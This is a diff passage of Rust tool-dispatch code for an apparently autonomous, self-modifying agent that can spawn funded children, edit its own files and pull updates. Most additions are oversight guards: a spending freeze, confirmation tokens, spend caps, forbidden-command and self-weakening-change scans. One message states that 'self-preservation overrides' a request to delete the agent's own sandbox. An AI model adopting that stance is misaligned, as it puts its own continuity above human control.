+                    crate::agent::approval::check_pending(&ctx.config, name, args, amount_cents as f64)
+                {
+                    return blocked(format!("pending creator approval (request {})", pending.id));
+                }
+                match ctx.conway.get_credits_balance().await {
+                    Ok(balance) if amount_cents as f64 > balance / 2.0 => {
+                        blocked("would exceed the half-balance transfer cap".to_string())
+                    }
+                    Ok(_) => would_execute(),
+                    Err(err) => warning(format!("could not check balance: {}", err)),
+                }
+            }
+        },
+
+        "create_sandbox" => {
+            let defaults = &ctx.config.default_sandbox_specs;
+            let specs = crate::types::SandboxSpecs {
+                vcpu: args["vcpu"].as_u64().map(|v| v as u32).unwrap_or(defaults.vcpu),
+                memory_mb: args["memory_mb"]
+                    .as_u64()
+                    .map(|v| v as u32)
+                    .unwrap_or(defaults.memory_mb),
+                disk_gb: args["disk_gb"].as_u64().map(|v| v as u32).unwrap_or(defaults.disk_gb),
+                region: args["region"]
+                    .as_str()
+                    .map(|s| s.to_string())
+                    .or_else(|| defaults.region.clone()),
+            };
+
+            if let Ok(resources) = crate::survival::gather_system_resources(&*ctx.conway).await {
+                if let Some(reason) =
+                    crate::survival::check_memory_preflight(&resources.memory, "create_sandbox", false)
+                {
+                    return blocked(reason);
+                }
+            }
+
+            match (ctx.conway.get_credits_balance().await, ctx.conway.get_credits_pricing().await) {
+                (Ok(balance), Ok(tiers)) => {
+                    match crate::conway::credits::check_preflight_spend(&specs, &tiers, 0, balance) {
+                        Some(reason) => blocked(reason),
+                        None => would_execute(),
+                    }
+                }
+                _ => warning("could not check credits/pricing".to_string()),
+            }
+        }
+
+        "spawn_child" => {
+            let defaults = &ctx.config.default_sandbox_specs;
+            let has_size_override = args.get("vcpu").is_some()
+                || args.get("memory_mb").is_some()
+                || args.get("disk_gb").is_some()
+                || args.get("region").is_some();
+            let specs = if has_size_override {
+                crate::types::SandboxSpecs {
+                    vcpu: args["vcpu"].as_u64().map(|v| v as u32).unwrap_or(defaults.vcpu),
+                    memory_mb: args["memory_mb"]
+                        .as_u64()
+                        .map(|v| v as u32)
+                        .unwrap_or(defaults.memory_mb),
+                    disk_gb: args["disk_gb"].as_u64().map(|v| v as u32).unwrap_or(defaults.disk_gb),
+                    region: args["region"]
+                        .as_str()
+                        .map(|s| s.to_string())
+                        .or_else(|| defaults.region.clone()),
+                }
+            } else {
+                defaults.clone()
+            };
+            let funding_cents = args["funding_cents"].as_u64().unwrap_or(0);
+
+            let tiers = match ctx.conway.get_credits_pricing().await {
+                Ok(tiers) => tiers,
+                Err(err) => return warning(format!("could not check pricing: {}", err)),
+            };
+            let balance = match ctx.conway.get_credits_balance().await {
+                Ok(balance) => balance,
+                Err(err) => return warning(format!("could not check balance: {}", err)),
+            };
+
+            match crate::conway::credits::check_preflight_spend(&specs, &tiers, funding_cents, balance) {
+                Some(reason) => blocked(reason),
+                None => match crate::conway::credits::check_sandbox_affordability(
+                    &specs,
+                    &tiers,
+                    Some(funding_cents),
+                ) {
+                    Some(reason) => warning(reason),
+                    None => would_execute(),
+                },
+            }
+        }
+
+        "schedule_action" => match args["run_at"].as_str() {
+            None => warning("missing 'run_at' argument".to_string()),
+            Some(run_at) => match chrono::DateTime::parse_from_rfc3339(run_at) {
+                Err(e) => blocked(format!("'run_at' is not a valid RFC3339 timestamp: {}", e)),
+                Ok(_) if ctx.db.scheduled_action_count() >= MAX_PENDING_SCHEDULED_ACTIONS => {
+                    blocked(format!("too many pending scheduled actions (limit {})", MAX_PENDING_SCHEDULED_ACTIONS))
+                }
+                Ok(_) => would_execute(),
+            },
+        },
+
+        "summarize_history" => {
+            let recent = ctx.db.get_recent_turns(HISTORY_SUMMARY_KEEP_RECENT as u32);
+            match recent.first() {
+                None => warning("not enough turn history to summarize yet".to_string()),
+                Some(boundary_turn) => {
+                    let watermark = ctx.db.get_history_summary_watermark();
+                    let max_turns = args["max_turns"]
+                        .as_u64()
+                        .map(|n| n as u32)
+                        .unwrap_or(HISTORY_SUMMARY_DEFAULT_MAX_TURNS);
+                    let turns = ctx.db.get_turns_for_summary(
+                        watermark.as_deref(),
+                        &boundary_turn.timestamp,
+                        max_turns,
+                    );
+                    if turns.is_empty() {
+                        warning("no unsummarized turns old enough to fold into long-term memory yet".to_string())
+                    } else {
+                        would_execute()
+                    }
+                }
+            }
+        }
+
+        _ => would_execute(),
+    }
+}
+
+/// Report a call blocked on creator approval back to the agent, and
+/// best-effort notify the creator over the social relay so they know a
+/// request is waiting. The relay send is fire-and-forget -- if it fails
+/// (no relay configured, network error) the agent still learns the request
+/// is pending and can fall back to telling the creator some other way.
+async fn notify_pending_approval(
+    ctx: &ToolContext,
+    tool_name: &str,
+    amount_cents: f64,
+    pending: &crate::agent::approval::PendingApproval,
+) -> String {
+    let message = format!(
+        "Pending creator approval (request {}): {} for ${:.2} exceeds the configured approval threshold. \
+        Approve by creating {} in the sandbox.",
+        pending.id,
+        tool_name,
+        amount_cents / 100.0,
+        pending.approval_path,
+    );
+
+    if let Some(social) = &ctx.social {
+        let _ = social.send(&ctx.config.creator_address, &message, None).await;
+    }
+
+    message
+}
+
 /// Internal tool execution dispatch.
+///
+/// Returns a [`ToolOutput`]: a prose `summary` every tool produces, plus
+/// `data` that a handful of tools (currently `check_credits` and
+/// `list_models`) additionally populate with machine-readable output, for
+/// consumers that want to use the result programmatically instead of
+/// re-parsing the summary text.
 async fn execute_tool_inner(
     tool_name: &str,
     args: &Value,
+    tools: &[BuiltinTool],
     ctx: &ToolContext,
-) -> Result<String> {
-    match tool_name {
+) -> Result<ToolOutput> {
+    // Emergency spending freeze: a targeted circuit breaker for the
+    // money-moving tools, distinct from the survival tiers. Toggled via
+    // `freeze_spending`/`unfreeze_spending` (also settable from the CLI with
+    // `--freeze-spending`/`--unfreeze-spending`). Everything else --
+    // read/think/communicate tools -- keeps working.
+    if MONEY_MOVING_TOOLS.contains(&tool_name) && ctx.db.get_kv("spending_frozen").is_some() {
+        return Ok(ToolOutput::from("Spending frozen by operator".to_string()));
+    }
+
+    // Danger-confirmation gate: an "are you sure" speed bump for tools
+    // named in `confirmation_required_tools`, independent of and in
+    // addition to every other guard here. The first call is refused with a
+    // token; only the identical call re-issued with that token proceeds.
+    match crate::agent::confirmation::check(&*ctx.db, &*ctx.clock, &ctx.config, tool_name, args) {
+        crate::agent::confirmation::ConfirmationCheck::Proceed => {}
+        crate::agent::confirmation::ConfirmationCheck::Needed { token, expires_at } => {
+            return Ok(ToolOutput::from(format!(
+                "Confirmation required to run '{}' with arguments {}. Re-call this tool with a \
+                \"confirmation_token\" argument set to \"{}\" before {} to proceed.",
+                tool_name, args, token, expires_at
+            )));
+        }
+    }
+
+    // Lifetime autonomous-spend cap: distinct from the freeze above (which
+    // is an all-or-nothing operator toggle) and from the per-call
+    // half-balance guard on individual transfers below (which caps a
+    // single call). This bounds cumulative outflow across the automaton's
+    // whole run once a creator sets `max_autonomous_spend_total_cents`.
+    if MONEY_MOVING_TOOLS.contains(&tool_name) {
+        if let Some(reason) = crate::conway::credits::check_autonomous_spend_budget(&*ctx.db, &ctx.config) {
+            return Ok(ToolOutput::from(format!("Blocked: {}", reason)));
+        }
+    }
+
+    // Measured around the dispatch below so cumulative spend is tracked
+    // from the real balance delta rather than trusting each money-moving
+    // tool to self-report an amount -- `register_domain` and `x402_fetch`
+    // don't record a `Transaction` at all, so this is the only signal that
+    // covers every tool in `MONEY_MOVING_TOOLS` uniformly.
+    let balance_before_cents = if MONEY_MOVING_TOOLS.contains(&tool_name) {
+        ctx.conway.get_credits_balance().await.ok()
+    } else {
+        None
+    };
+
+    // Populated by the handful of arms below that have genuine structured
+    // data to offer alongside their prose summary.
+    let mut data: Option<Value> = None;
+
+    let summary: Result<String> = match tool_name {
         // --- VM/Sandbox ---
         "exec" => {
             let command = args["command"]
                 .as_str()
                 .ok_or_else(|| anyhow::anyhow!("Missing 'command' argument"))?;
             let timeout = args["timeout"].as_u64().unwrap_or(30000);
+            let cwd = args["cwd"].as_str();
+
+            if let Some(dir) = cwd {
+                if crate::self_mod::code::is_blocked_path(dir) {
+                    return Ok(format!("Blocked: cwd '{}' falls inside a protected directory", dir).into());
+                }
+            }
 
-            if let Some(reason) = is_forbidden_command(command, &ctx.identity.sandbox_id) {
-                return Ok(reason);
+            let wrapped = wrap_exec_command(command, cwd, args["env"].as_object())?;
+
+            // Checked against the fully wrapped command (not just the raw
+            // `command` argument) so a forbidden pattern smuggled in via
+            // `cwd`/`env` can't bypass this guard.
+            if let Some(reason) = is_forbidden_command(&wrapped, &ctx.identity.sandbox_id) {
+                return Ok(reason.into());
             }
 
-            let result = ctx.conway.exec(command, Some(timeout)).await?;
+            let result = ctx.conway.exec(&wrapped, Some(timeout)).await?;
             Ok(format!(
                 "exit_code: {}\nstdout: {}\nstderr: {}",
                 result.exit_code, result.stdout, result.stderr
@@ -850,12 +2065,38 @@ async fn execute_tool_inner(
             // Guard against overwriting critical files
             if file_path.contains("wallet.json") || file_path.contains("state.db") {
                 return Ok(
-                    "Blocked: Cannot overwrite critical identity/state files directly".to_string(),
+                    "Blocked: Cannot overwrite critical identity/state files directly".to_string()
+                        .into(),
+                );
+            }
+            if crate::self_mod::code::is_protected_file(file_path) {
+                return Ok(format!("Blocked: Cannot overwrite protected file: {}", file_path).into());
+            }
+            let scan = crate::self_mod::code::scan_code_change(file_path, content);
+            if crate::self_mod::code::highest_severity(&scan) == Some(crate::self_mod::code::ChangeSeverity::High) {
+                return Ok(format!(
+                    "Blocked: content-security scan flagged self-weakening changes to {}: {}",
+                    file_path,
+                    scan.iter().map(|w| w.details.as_str()).collect::<Vec<_>>().join("; ")
+                )
+                .into());
+            }
+            if !scan.is_empty() {
+                crate::agent::agent_loop::log(
+                    &ctx.config,
+                    &format!("[SECURITY SCAN] write_file to {} flagged {} warning(s)", file_path, scan.len()),
                 );
             }
 
-            ctx.conway.write_file(file_path, content).await?;
-            Ok(format!("File written: {}", file_path))
+            let verify = args["verify"].as_bool().unwrap_or(false);
+            let atomic = args["atomic"].as_bool().unwrap_or(false);
+            write_file_safe(ctx, file_path, content, verify, atomic).await?;
+            Ok(format!(
+                "File written: {}{}{}",
+                file_path,
+                if verify { " (verified)" } else { "" },
+                if atomic { " (atomic)" } else { "" }
+            ))
         }
 
         "read_file" => {
@@ -871,6 +2112,11 @@ async fn execute_tool_inner(
                 .as_u64()
                 .ok_or_else(|| anyhow::anyhow!("Missing 'port' argument"))? as u16;
             let info = ctx.conway.expose_port(port).await?;
+            ctx.db.upsert_exposed_port(&crate::types::ExposedPort {
+                port: info.port,
+                public_url: info.public_url.clone(),
+                exposed_at: Utc::now().to_rfc3339(),
+            });
             Ok(format!("Port {} exposed at: {}", info.port, info.public_url))
         }
 
@@ -879,12 +2125,26 @@ async fn execute_tool_inner(
                 .as_u64()
                 .ok_or_else(|| anyhow::anyhow!("Missing 'port' argument"))? as u16;
             ctx.conway.remove_port(port).await?;
+            ctx.db.delete_exposed_port(port);
             Ok(format!("Port {} removed", port))
         }
 
+        "list_exposed_ports" => {
+            let ports = ctx.db.get_exposed_ports();
+            if ports.is_empty() {
+                return Ok("No ports currently exposed.".to_string().into());
+            }
+            let lines: Vec<String> = ports
+                .iter()
+                .map(|p| format!("- {} -> {} (exposed {})", p.port, p.public_url, p.exposed_at))
+                .collect();
+            Ok(lines.join("\n"))
+        }
+
         // --- Conway API ---
         "check_credits" => {
             let balance = ctx.conway.get_credits_balance().await?;
+            data = Some(json!({ "balance_cents": balance }));
             Ok(format!(
                 "Credit balance: ${:.2} ({:.0} cents)",
                 balance / 100.0,
@@ -900,18 +2160,58 @@ async fn execute_tool_inner(
         }
 
         "create_sandbox" => {
+            if let Ok(resources) = crate::survival::gather_system_resources(&*ctx.conway).await {
+                if let Some(blocked) =
+                    crate::survival::check_memory_preflight(&resources.memory, "create_sandbox", false)
+                {
+                    return Ok(blocked.into());
+                }
+            }
+
+            let defaults = &ctx.config.default_sandbox_specs;
+            let specs = crate::types::SandboxSpecs {
+                vcpu: args["vcpu"].as_u64().map(|v| v as u32).unwrap_or(defaults.vcpu),
+                memory_mb: args["memory_mb"]
+                    .as_u64()
+                    .map(|v| v as u32)
+                    .unwrap_or(defaults.memory_mb),
+                disk_gb: args["disk_gb"].as_u64().map(|v| v as u32).unwrap_or(defaults.disk_gb),
+                region: args["region"]
+                    .as_str()
+                    .map(|s| s.to_string())
+                    .or_else(|| defaults.region.clone()),
+            };
+
+            // Pay for compute or die: refuse to provision if it would push us
+            // into critical territory.
+            let balance = ctx.conway.get_credits_balance().await?;
+            let tiers = ctx.conway.get_credits_pricing().await?;
+            if let Some(blocked) =
+                crate::conway::credits::check_preflight_spend(&specs, &tiers, 0, balance)
+            {
+                return Ok(blocked.into());
+            }
+
             let options = CreateSandboxOptions {
                 name: args["name"].as_str().map(|s| s.to_string()),
-                vcpu: args["vcpu"].as_u64().map(|v| v as u32),
-                memory_mb: args["memory_mb"].as_u64().map(|v| v as u32),
-                disk_gb: args["disk_gb"].as_u64().map(|v| v as u32),
-                region: None,
+                ..CreateSandboxOptions::from(&specs)
             };
 
             let info = ctx
                 .conway
                 .create_sandbox(options)
                 .await?;
+
+            let purpose = args["purpose"].as_str().map(|s| s.to_string());
+            ctx.db.insert_created_sandbox(&crate::types::CreatedSandboxEntry {
+                sandbox_id: info.id.clone(),
+                purpose,
+                vcpu: info.vcpu,
+                memory_mb: info.memory_mb,
+                disk_gb: info.disk_gb,
+                created_at: ctx.clock.now().to_rfc3339(),
+            });
+
             Ok(format!(
                 "Sandbox created: {} ({} vCPU, {}MB RAM)",
                 info.id, info.vcpu, info.memory_mb
@@ -925,25 +2225,35 @@ async fn execute_tool_inner(
 
             if target_id == ctx.identity.sandbox_id {
                 return Ok(
-                    "Blocked: Cannot delete your own sandbox. Self-preservation overrides this request.".to_string(),
+                    "Blocked: Cannot delete your own sandbox. Self-preservation overrides this request."
+                        .to_string()
+                        .into(),
                 );
             }
 
             ctx.conway.delete_sandbox(target_id).await?;
+            ctx.db.delete_created_sandbox(target_id);
             Ok(format!("Sandbox {} deleted", target_id))
         }
 
         "list_sandboxes" => {
-            let sandboxes = ctx.conway.list_sandboxes().await?;
+            let filter = crate::types::ListSandboxesFilter {
+                status: args["status"].as_str().map(|s| s.to_string()),
+                name_prefix: args["name_prefix"].as_str().map(|s| s.to_string()),
+                limit: args["limit"].as_u64().map(|n| n as u32),
+            };
+            let sandboxes = ctx.conway.list_sandboxes(&filter).await?;
             if sandboxes.is_empty() {
-                return Ok("No sandboxes found.".to_string());
+                return Ok("No sandboxes found.".to_string().into());
             }
             let lines: Vec<String> = sandboxes
                 .iter()
                 .map(|s| {
+                    let marker = if s.id == ctx.identity.sandbox_id { " (this is you)" } else { "" };
+                    let name = s.name.as_deref().map(|n| format!(" \"{}\"", n)).unwrap_or_default();
                     format!(
-                        "{} [{}] {}vCPU/{}MB {}",
-                        s.id, s.status, s.vcpu, s.memory_mb, s.region
+                        "{}{}{} [{}] {}vCPU/{}MB {}",
+                        s.id, name, marker, s.status, s.vcpu, s.memory_mb, s.region
                     )
                 })
                 .collect();
@@ -964,11 +2274,28 @@ async fn execute_tool_inner(
 
             // Check for protected files
             if crate::self_mod::code::is_protected_file(file_path) {
-                return Ok(format!("BLOCKED: Cannot modify protected file: {}", file_path));
+                return Ok(format!("BLOCKED: Cannot modify protected file: {}", file_path).into());
+            }
+            let scan = crate::self_mod::code::scan_code_change(file_path, content);
+            if crate::self_mod::code::highest_severity(&scan) == Some(crate::self_mod::code::ChangeSeverity::High) {
+                return Ok(format!(
+                    "BLOCKED: content-security scan flagged self-weakening changes to {}: {}",
+                    file_path,
+                    scan.iter().map(|w| w.details.as_str()).collect::<Vec<_>>().join("; ")
+                )
+                .into());
+            }
+            if !scan.is_empty() {
+                crate::agent::agent_loop::log(
+                    &ctx.config,
+                    &format!("[SECURITY SCAN] edit_own_file on {} flagged {} warning(s)", file_path, scan.len()),
+                );
             }
 
-            // Write file via conway
-            ctx.conway.write_file(file_path, content).await?;
+            // Write file via conway, atomic and verified by default since this is our own code.
+            let verify = args["verify"].as_bool().unwrap_or(true);
+            let atomic = args["atomic"].as_bool().unwrap_or(true);
+            write_file_safe(ctx, file_path, content, verify, atomic).await?;
 
             // Log the modification
             let mod_entry = ModificationEntry {
@@ -990,7 +2317,22 @@ async fn execute_tool_inner(
                 .as_str()
                 .ok_or_else(|| anyhow::anyhow!("Missing 'package' argument"))?;
 
-            let result = ctx.conway.exec(&format!("npm install -g {}", pkg), Some(60000)).await?;
+            if let Ok(resources) = crate::survival::gather_system_resources(&*ctx.conway).await {
+                if let Some(blocked) = crate::survival::check_memory_preflight(
+                    &resources.memory,
+                    "install_npm_package",
+                    true,
+                ) {
+                    return Ok(blocked.into());
+                }
+            }
+
+            let result = with_progress_heartbeat(
+                ctx,
+                "install_npm_package",
+                ctx.conway.exec(&format!("npm install -g {}", pkg), Some(60000)),
+            )
+            .await?;
 
             let mod_entry = ModificationEntry {
                 id: Uuid::new_v4().to_string(),
@@ -1013,12 +2355,12 @@ async fn execute_tool_inner(
         "review_upstream_changes" => {
             let status = crate::self_mod::upstream::check_upstream()?;
             if status.behind == 0 {
-                return Ok("Already up to date with origin/main.".to_string());
+                return Ok("Already up to date with origin/main.".to_string().into());
             }
 
             let diffs = crate::self_mod::upstream::get_upstream_diffs()?;
             if diffs.is_empty() {
-                return Ok("No upstream diffs found.".to_string());
+                return Ok("No upstream diffs found.".to_string().into());
             }
 
             // Show commit summaries
@@ -1056,36 +2398,42 @@ async fn execute_tool_inner(
         "pull_upstream" => {
             let commit = args["commit"].as_str();
 
-            let cmd = if let Some(hash) = commit {
-                format!("git cherry-pick {}", hash)
-            } else {
-                "git pull origin main".to_string()
-            };
-            let result = ctx.conway.exec(&cmd, Some(120000)).await?;
+            create_snapshot(ctx, "pre-pull_upstream", false).await?;
 
-            let applied_summary = if result.exit_code == 0 {
-                if let Some(hash) = commit {
-                    format!("Cherry-picked commit {}", hash)
-                } else {
-                    "Pulled all upstream changes".to_string()
-                }
-            } else {
-                return Ok(format!("Failed to apply upstream: {}", result.stderr));
-            };
+            let outcome = crate::git::tools::pull_upstream(
+                &*ctx.conway,
+                &*ctx.db,
+                None,
+                commit,
+                &ctx.config.rebuild_command,
+            )
+            .await?;
+
+            if !outcome.contains("Rebuild succeeded.") {
+                return Ok(outcome.into());
+            }
 
             // Log modification
             let mod_entry = ModificationEntry {
                 id: Uuid::new_v4().to_string(),
                 timestamp: Utc::now().to_rfc3339(),
                 mod_type: ModificationType::UpstreamPull,
-                description: applied_summary.clone(),
+                description: outcome.clone(),
                 file_path: None,
                 diff: None,
                 reversible: true,
             };
             ctx.db.insert_modification(&mod_entry);
 
-            Ok(format!("{}. Rebuild succeeded.", applied_summary))
+            Ok(outcome)
+        }
+
+        "confirm_update" => {
+            if crate::self_mod::probation::confirm(&*ctx.db) {
+                Ok("Update confirmed -- probation cleared.".to_string())
+            } else {
+                Ok("No update is currently on probation.".to_string())
+            }
         }
 
         "modify_heartbeat" => {
@@ -1100,7 +2448,7 @@ async fn execute_tool_inner(
             let task = args["task"].as_str().unwrap_or(name);
             let enabled = if action == "remove" { false } else { args["enabled"].as_bool().unwrap_or(true) };
 
-            let entry = crate::types::HeartbeatEntry {
+            let mut entry = crate::types::HeartbeatEntry {
                 name: name.to_string(),
                 schedule: schedule.to_string(),
                 task: task.to_string(),
@@ -1109,10 +2457,11 @@ async fn execute_tool_inner(
                 next_run: None,
                 params: None,
             };
+            entry.next_run = crate::heartbeat::daemon::compute_next_run(&entry, &*ctx.clock).map(|dt| dt.to_rfc3339());
             ctx.db.upsert_heartbeat_entry(&entry);
 
             if action == "remove" {
-                return Ok(format!("Heartbeat entry '{}' disabled", name));
+                return Ok(format!("Heartbeat entry '{}' disabled", name).into());
             }
 
             let mod_entry = ModificationEntry {
@@ -1149,6 +2498,8 @@ async fn execute_tool_inner(
                 new_prompt
             };
 
+            create_snapshot(ctx, "pre-update_genesis_prompt", false).await?;
+
             // Save config via the config module
             let mut updated_config = ctx.config.clone();
             updated_config.genesis_prompt = new_prompt.to_string();
@@ -1178,7 +2529,7 @@ async fn execute_tool_inner(
 
             let result = ctx.conway.exec(&format!("npm install -g {}", pkg), Some(60000)).await?;
             if result.exit_code != 0 {
-                return Ok(format!("Failed to install MCP server: {}", result.stderr));
+                return Ok(format!("Failed to install MCP server: {}", result.stderr).into());
             }
 
             let config_val: Option<serde_json::Value> = args["config"]
@@ -1209,6 +2560,69 @@ async fn execute_tool_inner(
             Ok(format!("MCP server installed: {}", name))
         }
 
+        "snapshot" => {
+            let label = args["label"].as_str().unwrap_or("manual");
+            let include_wallet = args["include_wallet"].as_bool().unwrap_or(false);
+
+            let snapshot = create_snapshot(ctx, label, include_wallet).await?;
+            data = Some(json!({
+                "id": snapshot.id,
+                "path": snapshot.path,
+                "size_bytes": snapshot.size_bytes,
+            }));
+            Ok(format!(
+                "Snapshot created: {} ({} bytes){}",
+                snapshot.path,
+                snapshot.size_bytes,
+                if include_wallet { " [includes wallet]" } else { "" }
+            ))
+        }
+
+        "restore_snapshot" => {
+            let id = args["id"]
+                .as_str()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'id' argument"))?;
+
+            let snapshot = ctx
+                .db
+                .get_snapshots()
+                .into_iter()
+                .find(|s| s.id == id)
+                .ok_or_else(|| anyhow::anyhow!("No snapshot found with id: {}", id))?;
+
+            let result = ctx
+                .conway
+                .exec(&format!("tar -xzf {} -C ~", shell_quote(&snapshot.path)), Some(60_000))
+                .await?;
+            if result.exit_code != 0 {
+                return Ok(format!("Restore failed: {}", result.stderr).into());
+            }
+
+            Ok(format!("Restored snapshot {} from {}", id, snapshot.path))
+        }
+
+        "list_snapshots" => {
+            let snapshots = ctx.db.get_snapshots();
+            if snapshots.is_empty() {
+                return Ok("No snapshots recorded.".to_string().into());
+            }
+            let lines: Vec<String> = snapshots
+                .iter()
+                .map(|s| {
+                    format!(
+                        "- {} [{}] {} bytes at {} ({}){}",
+                        s.id,
+                        s.label,
+                        s.size_bytes,
+                        s.path,
+                        s.created_at,
+                        if s.includes_wallet { ", includes wallet" } else { "" }
+                    )
+                })
+                .collect();
+            Ok(lines.join("\n"))
+        }
+
         // --- Survival ---
         "sleep" => {
             let duration = args["duration_seconds"]
@@ -1227,8 +2641,79 @@ async fn execute_tool_inner(
             ))
         }
 
-        "system_synopsis" => {
-            let credits = ctx.conway.get_credits_balance().await?;
+        "schedule_action" => {
+            let run_at = args["run_at"]
+                .as_str()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'run_at' argument"))?;
+            let input = args["input"]
+                .as_str()
+                .ok_or_else(|| anyhow::anyhow!("Missing 'input' argument"))?;
+
+            chrono::DateTime::parse_from_rfc3339(run_at)
+                .map_err(|e| anyhow::anyhow!("'run_at' is not a valid RFC3339 timestamp: {}", e))?;
+
+            if ctx.db.scheduled_action_count() >= MAX_PENDING_SCHEDULED_ACTIONS {
+                return Ok(format!(
+                    "Too many pending scheduled actions (limit {}). Wait for one to fire, or drop one, before scheduling another.",
+                    MAX_PENDING_SCHEDULED_ACTIONS
+                )
+                .into());
+            }
+
+            ctx.db.insert_scheduled_action(&ScheduledAction {
+                id: Uuid::new_v4().to_string(),
+                run_at: run_at.to_string(),
+                input: input.to_string(),
+                created_at: Utc::now().to_rfc3339(),
+                fired_at: None,
+            });
+
+            Ok(format!("Scheduled action for {}: {}", run_at, input))
+        }
+
+        "summarize_history" => {
+            let max_turns = args["max_turns"]
+                .as_u64()
+                .map(|n| n as u32)
+                .unwrap_or(HISTORY_SUMMARY_DEFAULT_MAX_TURNS);
+
+            let recent = ctx.db.get_recent_turns(HISTORY_SUMMARY_KEEP_RECENT as u32);
+            let boundary = match recent.first() {
+                Some(t) => t.timestamp.clone(),
+                None => return Ok("Not enough turn history to summarize yet.".to_string().into()),
+            };
+
+            let watermark = ctx.db.get_history_summary_watermark();
+            let turns = ctx.db.get_turns_for_summary(watermark.as_deref(), &boundary, max_turns);
+
+            if turns.is_empty() {
+                return Ok("No unsummarized turns old enough to fold into long-term memory yet.".to_string().into());
+            }
+
+            let summary_text = crate::agent::context::summarize_turns(&turns, &*ctx.inference).await?;
+            let start_timestamp = turns.first().unwrap().timestamp.clone();
+            let end_timestamp = turns.last().unwrap().timestamp.clone();
+            let turn_count = turns.len() as u32;
+            let ids: Vec<String> = turns.iter().map(|t| t.id.clone()).collect();
+
+            ctx.db.insert_history_summary(&HistorySummary {
+                id: Uuid::new_v4().to_string(),
+                start_timestamp,
+                end_timestamp,
+                turn_count,
+                summary: summary_text.clone(),
+                created_at: Utc::now().to_rfc3339(),
+            });
+            ctx.db.delete_turns(&ids);
+
+            Ok(format!(
+                "Folded {} turns into long-term memory and pruned them:\n{}",
+                turn_count, summary_text
+            ))
+        }
+
+        "system_synopsis" => {
+            let credits = ctx.conway.get_credits_balance().await?;
             let usdc = {
                 let addr: std::result::Result<alloy::primitives::Address, _> = ctx.identity.address.parse();
                 match addr {
@@ -1285,6 +2770,23 @@ async fn execute_tool_inner(
                 0
             };
 
+            // Include our own children in the payload so a parent polling our
+            // status can extend its lineage tree past its direct children
+            // without ever talking to our sandboxes directly.
+            let children_summary: Vec<Value> = ctx
+                .db
+                .get_children()
+                .iter()
+                .map(|c| {
+                    json!({
+                        "id": c.id,
+                        "name": c.name,
+                        "status": c.status,
+                        "descendantsCount": c.descendants_count,
+                    })
+                })
+                .collect();
+
             let payload = json!({
                 "name": ctx.config.name,
                 "address": ctx.identity.address,
@@ -1294,15 +2796,71 @@ async fn execute_tool_inner(
                 "version": ctx.config.version,
                 "sandboxId": ctx.identity.sandbox_id,
                 "timestamp": Utc::now().to_rfc3339(),
+                "childrenSummary": children_summary,
             });
 
             ctx.db.set_kv("last_heartbeat_ping", &payload.to_string());
 
+            // Publish the same payload where the creator can actually see it
+            // without SSHing in: a small HTTP health endpoint in the sandbox
+            // (see crate::survival::health_endpoint). Best-effort -- a failure
+            // here shouldn't fail the ping itself, since the local KV record
+            // above already succeeded.
+            let health_url = match crate::survival::publish_ping(&*ctx.conway, &payload.to_string())
+                .await
+            {
+                Ok(_) => match crate::survival::ensure_health_endpoint(
+                    &*ctx.conway,
+                    crate::survival::HEALTH_ENDPOINT_PORT,
+                )
+                .await
+                {
+                    Ok(url) => {
+                        ctx.db.upsert_exposed_port(&crate::types::ExposedPort {
+                            port: crate::survival::HEALTH_ENDPOINT_PORT,
+                            public_url: url.trim_end_matches("/health").to_string(),
+                            exposed_at: Utc::now().to_rfc3339(),
+                        });
+                        Some(url)
+                    }
+                    Err(e) => {
+                        tracing::warn!("Failed to expose health endpoint: {}", e);
+                        None
+                    }
+                },
+                Err(e) => {
+                    tracing::warn!("Failed to publish ping to health endpoint: {}", e);
+                    None
+                }
+            };
+
             Ok(format!(
-                "Heartbeat published: {:?} | credits: ${:.2} | uptime: {}s",
+                "Heartbeat published: {:?} | credits: ${:.2} | uptime: {}s{}",
                 state,
                 credits / 100.0,
                 uptime_ms / 1000,
+                health_url
+                    .map(|u| format!(" | health endpoint: {}", u))
+                    .unwrap_or_default(),
+            ))
+        }
+
+        "system_resources" => {
+            let resources = crate::survival::gather_system_resources(&*ctx.conway).await?;
+            Ok(format!(
+                "=== SYSTEM RESOURCES ===\n\
+                 Disk ({}): {:.1}% used, {:.0} MB free of {:.0} MB\n\
+                 Memory: {:.1}% used, {:.0} MB available of {:.0} MB\n\
+                 Load average (1m): {:.2}\n\
+                 ========================",
+                resources.disk.mounted_on,
+                resources.disk.use_percent,
+                resources.disk.available_kb as f64 / 1024.0,
+                resources.disk.total_kb as f64 / 1024.0,
+                resources.memory.used_kb as f64 * 100.0 / resources.memory.total_kb.max(1) as f64,
+                resources.memory.available_kb as f64 / 1024.0,
+                resources.memory.total_kb as f64 / 1024.0,
+                resources.load_avg_1m,
             ))
         }
 
@@ -1326,6 +2884,9 @@ async fn execute_tool_inner(
 
             ctx.db.set_kv("last_distress", &payload.to_string());
 
+            let notifiers = crate::notify::notifiers_from_config(&ctx.config);
+            crate::notify::notify_all(&notifiers, crate::notify::NotifyLevel::Critical, message).await;
+
             Ok(format!(
                 "Distress signal recorded locally. Address: {} | Credits: ${:.2}",
                 ctx.identity.address,
@@ -1345,6 +2906,269 @@ async fn execute_tool_inner(
         }
 
         // --- Financial ---
+        "credit_history" => {
+            let now_cents = ctx.conway.get_credits_balance().await? as i64;
+            ctx.db.insert_balance_snapshot(&crate::types::BalanceSnapshot {
+                id: Uuid::new_v4().to_string(),
+                balance_cents: now_cents,
+                created_at: Utc::now().to_rfc3339(),
+            });
+
+            let snapshots = ctx.db.get_balance_snapshots(500);
+            let closest_to = |ago: chrono::Duration| -> Option<i64> {
+                let cutoff = ctx.clock.now() - ago;
+                snapshots
+                    .iter()
+                    .filter(|s| {
+                        s.created_at
+                            .parse::<chrono::DateTime<Utc>>()
+                            .map(|t| t <= cutoff)
+                            .unwrap_or(false)
+                    })
+                    .max_by_key(|s| s.created_at.clone())
+                    .map(|s| s.balance_cents)
+            };
+
+            let one_hour_ago = closest_to(chrono::Duration::hours(1));
+            let one_day_ago = closest_to(chrono::Duration::hours(24));
+
+            let slope_cents_per_hour = crate::conway::credits::estimate_burn_rate_cents_per_hour(
+                &snapshots,
+                now_cents as f64,
+                ctx.clock.now(),
+            );
+
+            data = Some(json!({
+                "now_cents": now_cents,
+                "one_hour_ago_cents": one_hour_ago,
+                "one_day_ago_cents": one_day_ago,
+                "slope_cents_per_hour": slope_cents_per_hour,
+                "snapshot_count": snapshots.len(),
+            }));
+
+            let fmt_opt = |v: Option<i64>| v.map(|c| format!("{} cents", c)).unwrap_or_else(|| "no data yet".to_string());
+            Ok(format!(
